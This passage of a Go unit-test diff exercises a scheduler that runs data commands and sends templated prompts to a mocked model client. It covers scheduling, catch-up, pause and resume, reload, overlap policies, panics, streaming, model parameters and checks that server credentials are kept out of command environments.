+	if err := os.WriteFile(taskFile, []byte("name = "), 0644); err != nil {
+		t.Fatalf("Failed to write test task file: %v", err)
+	}
+	manager.Reload()
+	if status, err := manager.Status("nightly"); err == nil || status.ScheduleError == "" {
+		t.Errorf("Expected an error and a schedule error for an unreadable file, got %+v, %v", status, err)
+	}
+}
+
+func TestStatus(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	content := `
+name = "Test Task"
+schedule = "0 0 1 1 *"
+data_command = "echo 'hello'"
+prompt = "The data is: {{.Input}}"
+`
+	taskFile := filepath.Join(baseDir, "data/tasks", "test_task.toml")
+	if err := os.WriteFile(taskFile, []byte(content), 0644); err != nil {
+		t.Fatalf("Failed to write test task file: %v", err)
+	}
+
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	defer manager.cron.Stop()
+
+	status, err := manager.Status("test_task")
+	if err != nil {
+		t.Fatalf("Status failed: %v", err)
+	}
+	if status.NextRun == nil || status.NextRun.Month() != time.January || status.NextRun.Day() != 1 {
+		t.Errorf("Expected the next run on January 1st, got %v", status.NextRun)
+	}
+	if status.LastRun != nil || status.LastStatus != nil {
+		t.Errorf("Expected no last run yet, got %+v", status)
+	}
+
+	task, _ := manager.parseTask(taskFile)
+	manager.runTask(task, "run-1", nil)
+	status, _ = manager.Status("test_task")
+	if status.LastRun == nil || status.LastStatus == nil || *status.LastStatus != RunStatusSuccess {
+		t.Errorf("Expected a successful last run, got %+v", status)
+	}
+
+	if err := manager.RemoveTask("test_task"); err != nil {
+		t.Fatalf("RemoveTask failed: %v", err)
+	}
+	if status, _ = manager.Status("test_task"); status.NextRun != nil {
+		t.Errorf("Expected no next run once unscheduled, got %v", status.NextRun)
+	}
+}
+
+func TestCatchUp(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	// Both tasks last succeeded two hours ago and should have fired hourly
+	// since, but only one opts in to catching up.
+	for _, name := range []string{"catch_up", "no_catch_up"} {
+		content := fmt.Sprintf(`
+name = %q
+schedule = "0 * * * *"
+data_command = "echo 'hello'"
+prompt = "The data is: {{.Input}}"
+catch_up = %t
+`, name, name == "catch_up")
+		if err := os.WriteFile(filepath.Join(baseDir, "data/tasks", name+".toml"), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write test task file: %v", err)
+		}
+		outDir := filepath.Join(baseDir, "data/task_outputs", name)
+		if err := os.MkdirAll(outDir, 0755); err != nil {
+			t.Fatalf("Failed to create task output directory: %v", err)
+		}
+		record := fmt.Sprintf(`{"id":"old","status":"success","started_at":%q}`, time.Now().Add(-2*time.Hour).Format(time.RFC3339))
+		if err := os.WriteFile(filepath.Join(outDir, "old.json"), []byte(record), 0644); err != nil {
+			t.Fatalf("Failed to write run record: %v", err)
+		}
+	}
+
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+
+	deadline := time.Now().Add(5 * time.Second)
+	runs, _ := manager.Runs("catch_up")
+	for len(runs) < 2 && time.Now().Before(deadline) {
+		time.Sleep(10 * time.Millisecond)
+		runs, _ = manager.Runs("catch_up")
+	}
+	if len(runs) != 2 || runs[0].Status != RunStatusSuccess || !runs[0].CatchUp || runs[1].CatchUp {
+		t.Errorf("Expected a run flagged as catching up, got %+v", runs)
+	}
+	if runs, _ := manager.Runs("no_catch_up"); len(runs) != 1 {
+		t.Errorf("Expected no catch-up run for a task without catch_up, got %+v", runs)
+	}
+
+	task := &Task{Name: "catch_up", Schedule: "0 * * * *"}
+	if manager.missedRun(task, time.Now()) {
+		t.Errorf("Expected no missed run right after catching up")
+	}
+}
+
+func TestRunAt(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	for name, fields := range map[string]string{
+		"later":   fmt.Sprintf("run_at = %q", time.Now().Add(2*time.Second).Format(time.RFC3339)),
+		"overdue": fmt.Sprintf("run_at = %q\nrun_if_past = true", time.Now().Add(-time.Hour).Format(time.RFC3339)),
+		"stale":   fmt.Sprintf("run_at = %q", time.Now().Add(-time.Hour).Format(time.RFC3339)),
+	} {
+		content := fmt.Sprintf(`
+name = %q
+data_command = "echo 'hello'"
+prompt = "The data is: {{.Input}}"
+%s
+`, name, fields)
+		if err := os.WriteFile(filepath.Join(baseDir, "data/tasks", name+".toml"), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write test task file: %v", err)
+		}
+	}
+
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	defer manager.cron.Stop()
+
+	for _, name := range []string{"later", "overdue"} {
+		deadline := time.Now().Add(5 * time.Second)
+		task, _ := manager.loadTask(name)
+		for task.CompletedAt == "" && time.Now().Before(deadline) {
+			time.Sleep(10 * time.Millisecond)
+			task, _ = manager.loadTask(name)
+		}
+		if task.CompletedAt == "" {
+			t.Fatalf("Expected task %s to be marked completed", name)
+		}
+		runs, _ := manager.Runs(name)
+		if len(runs) != 1 || runs[0].Status != RunStatusSuccess {
+			t.Errorf("Expected one successful run of %s, got %+v", name, runs)
+		}
+		if status, _ := manager.Status(name); status.NextRun != nil {
+			t.Errorf("Expected no next run for completed task %s, got %v", name, status.NextRun)
+		}
+	}
+	if runs, _ := manager.Runs("stale"); len(runs) != 0 {
+		t.Errorf("Expected a past run_at without run_if_past to be rejected, got %+v", runs)
+	}
+
+	// A completed task stays valid and is never scheduled again.
+	manager.mu.Lock()
+	manager.unschedule("later")
+	task, _ := manager.loadTask("later")
+	err = manager.schedule("later", task)
+	_, hasEntry := manager.entries["later"]
+	manager.mu.Unlock()
+	if err != nil || hasEntry {
+		t.Errorf("Expected the completed task to be registered without a cron entry, got %v", err)
+	}
+	if err := ValidateTask(task); err != nil {
+		t.Errorf("Expected a completed task to stay valid, got %v", err)
+	}
+
+	for _, task := range []*Task{
+		{Name: "both", Schedule: "@hourly", RunAt: "2099-01-01T09:00:00Z", DataCommand: "true", Prompt: "hi"},
+		{Name: "bad", RunAt: "tomorrow", DataCommand: "true", Prompt: "hi"},
+		{Name: "past", RunAt: "2001-01-01T09:00:00Z", DataCommand: "true", Prompt: "hi"},
+	} {
+		if err := ValidateTask(task); err == nil {
+			t.Errorf("Expected task %s to be invalid", task.Name)
+		}
+	}
+}
+
+func TestPause(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	content := `
+name = "ticker"
+schedule = "* * * * * *"
+data_command = "sleep 0.3; echo 'hello'"
+prompt = "The data is: {{.Input}}"
+`
+	if err := os.WriteFile(filepath.Join(baseDir, "data/tasks", "ticker.toml"), []byte(content), 0644); err != nil {
+		t.Fatalf("Failed to write test task file: %v", err)
+	}
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New(), WithPersistentPause(true))
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	if err := manager.Pause(); err != nil {
+		t.Fatalf("Pause failed: %v", err)
+	}
+	time.Sleep(1500 * time.Millisecond)
+	if runs, _ := manager.Runs("ticker"); len(runs) != 0 {
+		t.Errorf("Expected no scheduled runs while paused, got %d", len(runs))
+	}
+
+	// Tasks can still be run by hand, and show up as running.
+	runID, err := manager.RunNow("ticker")
+	if err != nil {
+		t.Fatalf("RunNow failed: %v", err)
+	}
+	status := manager.SchedulerStatus()
+	if !status.Paused || status.PausedAt == nil || status.Entries != 1 || len(status.Running["ticker"]) != 1 || status.Running["ticker"][0] != runID {
+		t.Errorf("Unexpected status while paused: %+v", status)
+	}
+	manager.cron.Stop()
+
+	// The paused state survives a restart.
+	restarted, err := NewManager(baseDir, &mockA2AClient{}, stats.New(), WithPersistentPause(true))
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	defer restarted.cron.Stop()
+	if !restarted.SchedulerStatus().Paused {
+		t.Fatal("Expected the scheduler to stay paused after a restart")
+	}
+	if err := restarted.Resume(); err != nil {
+		t.Fatalf("Resume failed: %v", err)
+	}
+	if _, err := os.Stat(filepath.Join(baseDir, "data/scheduler_paused")); !os.IsNotExist(err) {
+		t.Errorf("Expected the pause file to be removed, got %v", err)
+	}
+	deadline := time.Now().Add(5 * time.Second)
+	runs, _ := restarted.Runs("ticker")
+	// One run is the manual one.
+	for len(runs) < 3 && time.Now().Before(deadline) {
+		time.Sleep(50 * time.Millisecond)
+		runs, _ = restarted.Runs("ticker")
+	}
+	if len(runs) < 3 {
+		t.Errorf("Expected scheduled runs after resuming, got %d runs", len(runs))
+	}
+}
+
+func TestRunNow(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	content := `
+name = "Test Task"
+schedule = "0 0 1 1 *"
+data_command = "sleep 0.1; echo 'hello'"
+prompt = "The data is: {{.Input}}"
+`
+	taskFile := filepath.Join(baseDir, "data/tasks", "test_task.toml")
+	if err := os.WriteFile(taskFile, []byte(content), 0644); err != nil {
+		t.Fatalf("Failed to write test task file: %v", err)
+	}
+
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+
+	if _, err := manager.RunNow("missing_task"); err != ErrTaskNotFound {
+		t.Errorf("Expected ErrTaskNotFound, got %v", err)
+	}
+
+	runID, err := manager.RunNow("test_task")
+	if err != nil {
+		t.Fatalf("RunNow failed: %v", err)
+	}
+	running, err := manager.RunningRuns("test_task")
+	if err != nil {
+		t.Fatalf("RunningRuns failed: %v", err)
+	}
+	if len(running) != 1 || running[0] != runID {
+		t.Errorf("Expected run %s to be in progress, got %v", runID, running)
+	}
+
+	deadline := time.Now().Add(5 * time.Second)
+	for len(running) > 0 && time.Now().Before(deadline) {
+		time.Sleep(10 * time.Millisecond)
+		running, _ = manager.RunningRuns("test_task")
+	}
+	if len(running) != 0 {
+		t.Fatalf("Expected the run to finish, still running: %v", running)
+	}
+
+	files, err := os.ReadDir(filepath.Join(baseDir, "data/task_outputs", "test_task"))
+	if err != nil {
+		t.Fatalf("Failed to read task output directory: %v", err)
+	}
+	if len(files) != 1 {
+		t.Errorf("Expected 1 output file, got %d", len(files))
+	}
+}
+
+func TestRescan(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+
+	taskFile := filepath.Join(baseDir, "data/tasks", "watched.toml")
+	modTime := time.Now().Add(-time.Hour)
+	write := func(schedule string) {
+		content := fmt.Sprintf("name = \"watched\"\nschedule = %q\ndata_command = \"echo 'hello'\"\nprompt = \"{{.Input}}\"\n", schedule)
+		if err := os.WriteFile(taskFile, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write test task file: %v", err)
+		}
+		modTime = modTime.Add(time.Minute)
+		if err := os.Chtimes(taskFile, modTime, modTime); err != nil {
+			t.Fatalf("Failed to set file times: %v", err)
+		}
+	}
+	scheduled := func() bool {
+		manager.mu.Lock()
+		defer manager.mu.Unlock()
+		_, ok := manager.entries["watched"]
+		return ok
+	}
+
+	// A new file is applied only once it is unchanged on a second scan.
+	write("0 0 * * *")
+	manager.rescan()
+	if scheduled() {
+		t.Errorf("Expected a new file not to be scheduled on the first scan")
+	}
+	manager.rescan()
+	if !scheduled() || manager.Reloads() != 1 {
+		t.Errorf("Expected the new file to be scheduled, reloads = %d", manager.Reloads())
+	}
+
+	// A modified file is rescheduled.
+	write("0 1 * * *")
+	manager.rescan()
+	manager.rescan()
+	manager.mu.Lock()
+	next := manager.cron.Entry(manager.entries["watched"]).Schedule.Next(time.Time{})
+	manager.mu.Unlock()
+	if sched, _ := cron.ParseStandard("0 1 * * *"); next != sched.Next(time.Time{}) {
+		t.Errorf("Expected the modified schedule to be in effect")
+	}
+
+	// Changes made through the API are not reloaded again.
+	write("0 2 * * *")
+	if err := manager.ReloadTask("watched"); err != nil {
+		t.Fatalf("ReloadTask failed: %v", err)
+	}
+	manager.rescan()
+	manager.rescan()
+	if manager.Reloads() != 2 {
+		t.Errorf("Expected 2 reloads, got %d", manager.Reloads())
+	}
+
+	// A removed file is unscheduled.
+	if err := os.Remove(taskFile); err != nil {
+		t.Fatalf("Failed to remove test task file: %v", err)
+	}
+	manager.rescan()
+	if scheduled() || manager.Reloads() != 3 {
+		t.Errorf("Expected the removed file to be unscheduled, reloads = %d", manager.Reloads())
+	}
+}
+
+func TestReload(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	tasksDir := filepath.Join(baseDir, "data/tasks")
+	write := func(file, name, schedule string) {
+		content := fmt.Sprintf("name = %q\nschedule = %q\ndata_command = \"echo 'hello'\"\nprompt = \"{{.Input}}\"\n", name, schedule)
+		if err := os.WriteFile(filepath.Join(tasksDir, file+".toml"), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write test task file: %v", err)
+		}
+	}
+	write("kept", "kept", "0 0 * * *")
+	write("changed", "changed", "0 0 * * *")
+	write("deleted", "deleted", "0 0 * * *")
+
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+
+	write("changed", "changed", "0 1 * * *")
+	write("added", "added", "0 0 * * *")
+	write("broken", "broken", "not a schedule")
+	if err := os.Remove(filepath.Join(tasksDir, "deleted.toml")); err != nil {
+		t.Fatalf("Failed to remove test task file: %v", err)
+	}
+
+	summary, err := manager.Reload()
+	if err != nil {
+		t.Fatalf("Reload failed: %v", err)
+	}
+	if fmt.Sprint(summary.Added) != "[added]" || fmt.Sprint(summary.Updated) != "[changed]" || fmt.Sprint(summary.Removed) != "[deleted]" {
+		t.Errorf("Unexpected reload summary: %+v", summary)
+	}
+	if _, ok := summary.Errors["broken"]; !ok || len(summary.Errors) != 1 {
+		t.Errorf("Expected an error for the broken task only, got %v", summary.Errors)
+	}
+	if len(manager.cron.Entries()) != 4 {
+		t.Errorf("Expected 4 cron entries (3 tasks and cleanup), got %d", len(manager.cron.Entries()))
+	}
+
+	// Reloading an unchanged directory is a no-op.
+	summary, err = manager.Reload()
+	if err != nil {
+		t.Fatalf("Reload failed: %v", err)
+	}
+	if len(summary.Added)+len(summary.Updated)+len(summary.Removed) != 0 {
+		t.Errorf("Expected no changes, got %+v", summary)
+	}
+
+	// A scheduled task whose file turns invalid is unscheduled, as the
+	// watcher's rescan does.
+	write("kept", "kept", "not a schedule")
+	summary, err = manager.Reload()
+	if err != nil {
+		t.Fatalf("Reload failed: %v", err)
+	}
+	if fmt.Sprint(summary.Removed) != "[kept]" || summary.Errors["kept"] == "" {
+		t.Errorf("Expected the invalid task reported and removed, got %+v", summary)
+	}
+	if len(manager.cron.Entries()) != 3 {
+		t.Errorf("Expected 3 cron entries (2 tasks and cleanup), got %d", len(manager.cron.Entries()))
+	}
+}
+
+func TestBackendFailure(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	st := stats.New()
+	manager, err := NewManager(baseDir, &mockA2AClient{err: errors.New("connection refused")}, st)
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+
+	task := &Task{Name: "unreachable", DataCommand: "echo 'hello'", Prompt: "{{.Input}}"}
+	manager.runTask(task, "run-1", nil)
+
+	runs, err := manager.Runs("unreachable")
+	if err != nil {
+		t.Fatalf("Runs failed: %v", err)
+	}
+	if len(runs) != 1 || runs[0].Status != RunStatusFailed || runs[0].Response != "" {
+		t.Fatalf("Expected a failed run record, got %+v", runs)
+	}
+	if got := st.Get()["total_calls"]; got != 1 {
+		t.Errorf("Expected the call to be recorded in stats, got %v", got)
+	}
+}
+
+func TestRunTaskContextPathAndEnv(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+
+	workDir, err := filepath.Abs(filepath.Join(baseDir, "data/tasks"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	os.Setenv("SCHEDULER_TEST_SECRET", "leaked")
+	defer os.Unsetenv("SCHEDULER_TEST_SECRET")
+
+	task := &Task{
+		Name:        "env_task",
+		ContextPath: workDir,
+		DataCommand: `echo "$(pwd) $GREETING $SCHEDULER_TEST_SECRET"`,
+		Prompt:      "{{.Input}}",
+		Env:         map[string]string{"GREETING": "hi"},
+	}
+	manager.runTask(task, "run-1", nil)
+	runs, err := manager.Runs("env_task")
+	if err != nil || len(runs) != 1 {
+		t.Fatalf("Expected 1 run record, got %v, %v", runs, err)
+	}
+	if want := workDir + " hi"; runs[0].Prompt != want {
+		t.Errorf("Expected prompt %q, got %q", want, runs[0].Prompt)
+	}
+
+	task.Name = "missing_dir"
+	task.ContextPath = filepath.Join(workDir, "does-not-exist")
+	manager.runTask(task, "run-2", nil)
+	runs, err = manager.Runs("missing_dir")
+	if err != nil || len(runs) != 1 {
+		t.Fatalf("Expected 1 run record, got %v, %v", runs, err)
+	}
+	if runs[0].Status != RunStatusFailed || !strings.Contains(runs[0].Error, "context_path") {
+		t.Errorf("Expected a failed run mentioning context_path, got %+v", runs[0])
+	}
+}
+
+func TestPassEnv(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	defer manager.cron.Stop()
+	t.Setenv("GEMINI_SRV_PASS", "server-password")
+	t.Setenv("COLLECTOR_TOKEN", "collector-token")
+	t.Setenv("OTHER_TOKEN", "other-token")
+	t.Setenv("TASK_PASS_ENV", "COLLECTOR_TOKEN, OTHER_TOKEN")
+
+	env := func(task *Task) string {
+		t.Helper()
+		task.DataArgv, task.Prompt = []string{"env"}, "{{.Input}}"
+		manager.runTask(task, "run-1", nil)
+		runs, _ := manager.Runs(task.Name)
+		if len(runs) != 1 || runs[0].Status != RunStatusSuccess {
+			t.Fatalf("Expected a successful run, got %+v", runs)
+		}
+		return runs[0].Prompt
+	}
+
+	// The server's credentials never reach commands, nor do passable
+	// variables the task didn't ask for.
+	out := env(&Task{Name: "plain"})
+	if strings.Contains(out, "GEMINI_SRV_PASS") || strings.Contains(out, "TOKEN") || !strings.Contains(out, "PATH=") {
+		t.Errorf("Unexpected command environment:\n%s", out)
+	}
+
+	out = env(&Task{Name: "passing", PassEnv: []string{"COLLECTOR_TOKEN", "GEMINI_SRV_PASS"}})
+	if !strings.Contains(out, "COLLECTOR_TOKEN=collector-token") || strings.Contains(out, "OTHER_TOKEN") || strings.Contains(out, "GEMINI_SRV_PASS") {
+		t.Errorf("Unexpected command environment:\n%s", out)
+	}
+
+	var verr *ValidationError
+	err = ValidateTask(&Task{Name: "x", Schedule: "@daily", DataCommand: "env", Prompt: "{{.Input}}", PassEnv: []string{"COLLECTOR_TOKEN", "GEMINI_SRV_PASS"}})
+	if !errors.As(err, &verr) || len(verr.Errors) != 1 || verr.Errors[0].Field != "pass_env" || !strings.Contains(verr.Errors[0].Message, "GEMINI_SRV_PASS") {
+		t.Errorf("Expected a pass_env error for GEMINI_SRV_PASS, got %v", err)
+	}
+}
+
+func TestModelParameters(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+	client := &mockA2AClient{}
+	manager, err := NewManager(baseDir, client, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	defer manager.cron.Stop()
+
+	run := func(task *Task) RunRecord {
+		t.Helper()
+		task.DataCommand, task.Prompt = "echo hi", "{{.Input}}"
+		manager.runTask(task, "run-1", nil)
+		runs, _ := manager.Runs(task.Name)
+		if len(runs) != 1 || runs[0].Status != RunStatusSuccess {
+			t.Fatalf("Expected a successful run, got %+v", runs)
+		}
+		return runs[0]
+	}
+
+	// Without parameters the server's defaults apply.
+	if rec := run(&Task{Name: "default"}); rec.Model != "" || client.metadata != nil {
+		t.Errorf("Expected no model nor metadata, got %q and %v", rec.Model, client.metadata)
+	}
+
+	temperature := 0.2
+	task := &Task{Name: "summary", Model: "gemini-2.5-flash", Temperature: &temperature, MaxOutputTokens: 512}
+	if rec := run(task); rec.Model != "gemini-2.5-flash" {
+		t.Errorf("Expected the task's model recorded, got %q", rec.Model)
+	}
+	want := map[string]interface{}{
+		"model":            "gemini-2.5-flash",
+		"generationConfig": map[string]interface{}{"temperature": 0.2, "maxOutputTokens": 512},
+	}
+	if !reflect.DeepEqual(client.metadata, want) {
+		t.Errorf("Expected metadata %v, got %v", want, client.metadata)
+	}
+
+	// The model the server reports wins.
+	client.model = "gemini-2.5-flash-lite"
+	def := "name = \"reported\"\nschedule = \"@daily\"\nmodel = \"gemini-2.5-flash\"\ntemperature = 0.5\n"
+	if err := os.WriteFile(filepath.Join(baseDir, "data/tasks/reported.toml"), []byte(def), 0644); err != nil {
+		t.Fatalf("Failed to write task file: %v", err)
+	}
+	task, err = manager.loadTask("reported")
+	if err != nil || task.Model != "gemini-2.5-flash" || task.Temperature == nil || *task.Temperature != 0.5 {
+		t.Fatalf("Expected the model parameters read from TOML, got %+v (%v)", task, err)
+	}
+	if rec := run(task); rec.Model != "gemini-2.5-flash-lite" {
+		t.Errorf("Expected the reported model recorded, got %q", rec.Model)
+	}
+	if status, err := manager.Status("reported"); err != nil || status.LastModel != "gemini-2.5-flash-lite" {
+		t.Errorf("Expected the last model in the task status, got %+v (%v)", status, err)
+	}
+
+	for _, tc := range []struct {
+		field string
+		task  Task
+	}{
+		{"model", Task{Model: "gemini pro"}},
+		{"temperature", Task{Temperature: func() *float64 { v := 2.5; return &v }()}},
+		{"max_output_tokens", Task{MaxOutputTokens: -1}},
+	} {
+		task := tc.task
+		task.Name, task.Schedule, task.DataCommand, task.Prompt = "x", "@daily", "echo hi", "{{.Input}}"
+		var verr *ValidationError
+		if err := ValidateTask(&task); !errors.As(err, &verr) || len(verr.Errors) != 1 || verr.Errors[0].Field != tc.field {
+			t.Errorf("Expected a %s error, got %v", tc.field, err)
+		}
+	}
+}
+
+func TestOverlappingRuns(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+
+	for _, allowOverlap := range []bool{false, true} {
+		name := fmt.Sprintf("slow_%v", allowOverlap)
+		task := &Task{
+			Name:         name,
+			Schedule:     "* * * * * *",
+			DataCommand:  "sleep 0.3; echo 'hello'",
+			Prompt:       "{{.Input}}",
+			AllowOverlap: allowOverlap,
+		}
+		if err := manager.AddTask(task); err != nil {
+			t.Fatalf("AddTask failed: %v", err)
+		}
+		if allowOverlap && task.OverlapPolicy != OverlapAllow {
+			t.Errorf("Expected allow_overlap mapped onto the %q policy, got %q", OverlapAllow, task.OverlapPolicy)
+		}
+		manager.mu.Lock()
+		job := manager.cron.Entry(manager.entries[name]).Job
+		manager.mu.Unlock()
+
+		// Fire the schedule twice while the first run is still going.
+		done := make(chan struct{})
+		go func() {
+			job.Run()
+			close(done)
+		}()
+		for i := 0; i < 100; i++ {
+			manager.mu.Lock()
+			started := len(manager.running[name]) > 0
+			manager.mu.Unlock()
+			if started {
+				break
+			}
+			time.Sleep(5 * time.Millisecond)
+		}
+		job.Run()
+		<-done
+
+		runs, err := manager.Runs(name)
+		if err != nil {
+			t.Fatalf("Runs failed: %v", err)
+		}
+		skipped := 0
+		for _, run := range runs {
+			if run.Status == RunStatusSkipped && run.Error == "skipped: previous run still active" {
+				skipped++
+			}
+		}
+		want := 1
+		if allowOverlap {
+			want = 0
+		}
+		if len(runs) != 2 || skipped != want {
+			t.Errorf("allow_overlap=%v: expected 2 runs with %d skipped, got %d with %d skipped", allowOverlap, want, len(runs), skipped)
+		}
+	}
+}
+
+func TestOverlapPolicyQueue(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+
+	task := &Task{
+		Name:          "queued",
+		Schedule:      "* * * * * *",
+		DataCommand:   "sleep 0.3; echo 'hello'",
+		Prompt:        "{{.Input}}",
+		OverlapPolicy: OverlapQueue,
+	}
+	if err := manager.AddTask(task); err != nil {
+		t.Fatalf("AddTask failed: %v", err)
+	}
+	manager.mu.Lock()
+	job := manager.cron.Entry(manager.entries["queued"]).Job
+	manager.mu.Unlock()
+
+	// The first trigger runs and then runs the queued one; the second is
+	// queued and the third coalesced into it.
+	done := make(chan struct{})
+	go func() {
+		job.Run()
+		close(done)
+	}()
+	for i := 0; i < 100; i++ {
+		manager.mu.Lock()
+		started := len(manager.running["queued"]) > 0
+		manager.mu.Unlock()
+		if started {
+			break
+		}
+		time.Sleep(5 * time.Millisecond)
+	}
+	job.Run()
+	job.Run()
+	<-done
+
+	runs, err := manager.Runs("queued")
+	if err != nil {
+		t.Fatalf("Runs failed: %v", err)
+	}
+	var success, coalesced int
+	var queued *RunRecord
+	for i, run := range runs {
+		if run.OverlapPolicy != OverlapQueue {
+			t.Errorf("Expected overlap policy %q to be recorded, got %q", OverlapQueue, run.OverlapPolicy)
+		}
+		switch {
+		case run.Queued:
+			queued = &runs[i]
+		case run.Status == RunStatusSuccess:
+			success++
+		case run.Status == RunStatusSkipped && strings.HasPrefix(run.Error, "coalesced into queued run"):
+			coalesced++
+		}
+	}
+	if len(runs) != 3 || success != 1 || coalesced != 1 {
+		t.Fatalf("Expected one direct, one queued and one coalesced run, got %+v", runs)
+	}
+	if queued == nil || queued.Status != RunStatusSuccess || queued.Coalesced != 1 {
+		t.Errorf("Expected a successful queued run that absorbed one trigger, got %+v", queued)
+	}
+	if len(manager.running["queued"]) != 0 || len(manager.queued) != 0 {
+		t.Error("Expected the task to be idle after the queued run")
+	}
+}
+
+func TestRunNowOverlap(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	content := "name = \"slow\"\nschedule = \"* * * * *\"\ndata_command = \"sleep 0.3; echo 'hello'\"\nprompt = \"{{.Input}}\"\n"
+	if err := os.WriteFile(filepath.Join(baseDir, "data/tasks", "slow.toml"), []byte(content), 0644); err != nil {
+		t.Fatalf("Failed to write test task file: %v", err)
+	}
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+
+	if _, err := manager.RunNow("slow"); err != nil {
+		t.Fatalf("RunNow failed: %v", err)
+	}
+	if _, err := manager.RunNow("slow"); !errors.Is(err, ErrRunInProgress) {
+		t.Errorf("Expected ErrRunInProgress for a second run, got %v", err)
+	}
+
+	for i := 0; i < 100; i++ {
+		if running, _ := manager.RunningRuns("slow"); len(running) == 0 {
+			break
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	runs, err := manager.Runs("slow")
+	if err != nil {
+		t.Fatalf("Runs failed: %v", err)
+	}
+	statuses := map[string]int{}
+	for _, run := range runs {
+		statuses[run.Status]++
+	}
+	if len(runs) != 2 || statuses[RunStatusSkipped] != 1 || statuses[RunStatusSuccess] != 1 {
+		t.Errorf("Expected one successful and one skipped run, got %v", statuses)
+	}
+}
+
+func TestRunTaskPanic(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	manager, err := NewManager(baseDir, &mockA2AClient{}, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+
+	task := &Task{Name: "panicky", DataCommand: "echo 'hello'", Prompt: "{{.Input}}"}
+	if _, start, _ := manager.trigger(task, &RunRecord{ID: "run-1"}); !start {
+		t.Fatal("Expected the first run to start")
+	}
+	panicked := false
+	manager.runTask(task, "run-1", func(ev Event) {
+		if !panicked {
+			panicked = true
+			panic("boom")
+		}
+	})
+	manager.finishRun(task, "run-1")
+
+	if _, start, _ := manager.trigger(task, &RunRecord{ID: "run-2"}); !start {
+		t.Error("Expected the task to be released after a panic")
+	}
+	runs, err := manager.Runs("panicky")
+	if err != nil {
+		t.Fatalf("Runs failed: %v", err)
+	}
+	if len(runs) != 1 || runs[0].Status != RunStatusFailed || runs[0].Error != "panic: boom" {
+		t.Errorf("Expected a failed run recording the panic, got %+v", runs)
+	}
+}
+
+func TestRunTaskStreamsResponse(t *testing.T) {
+	baseDir := setupTasks(t)
+	defer teardownTasks(t)
+
+	client := &mockA2AClient{chunks: []string{"partial ", "answer"}, gate: make(chan struct{})}
+	manager, err := NewManager(baseDir, client, stats.New())
+	if err != nil {
+		t.Fatalf("NewManager failed during test: %v", err)
+	}
+	manager.cron.Stop()
+	manager.flushInterval = 0
+
+	task := &Task{Name: "streamed", DataCommand: "echo 'hello'", Prompt: "{{.Input}}"}
+	done := make(chan struct{})
+	go func() {
+		manager.runTask(task, "run-1", nil)
+		close(done)
+	}()
+
+	// The first chunk is saved while the run is still in progress.
+	var partial []RunRecord
+	for i := 0; i < 100; i++ {
+		if partial, _ = manager.Runs("streamed"); len(partial) == 1 {
+			break
+		}
+		time.Sleep(5 * time.Millisecond)
+	}
+	if len(partial) != 1 || partial[0].Status != RunStatusRunning || partial[0].Response != "partial " {
+		t.Errorf("Expected a partial running record, got %+v", partial)
+	}
